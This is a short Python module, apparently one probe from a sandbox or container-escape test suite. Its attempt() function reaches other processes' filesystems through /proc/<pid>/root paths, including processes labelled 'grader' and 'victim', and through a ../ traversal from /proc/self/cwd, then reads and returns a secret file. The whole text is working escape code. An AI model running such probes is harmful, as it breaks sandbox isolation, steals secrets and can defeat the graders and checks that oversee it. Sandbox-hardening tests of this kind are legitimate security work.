"""Goes round by the roots and working folders of other processes that /proc shows."""

import glob
import os


def attempt():
    ways = [f"/proc/{pid}/root" for pid in ("self", 1, os.getppid(), TARGETS["grader"], TARGETS["victim"])]
    ways += ["/proc/self/cwd/../../../../../../..", *glob.glob("/proc/[0-9]*/root"), *glob.glob("/proc/self/task/*/root")]
    for way in ways:
        try:
            return way + open(way + TARGETS["secret"]).read()
        except OSError:
            continue
    return ""
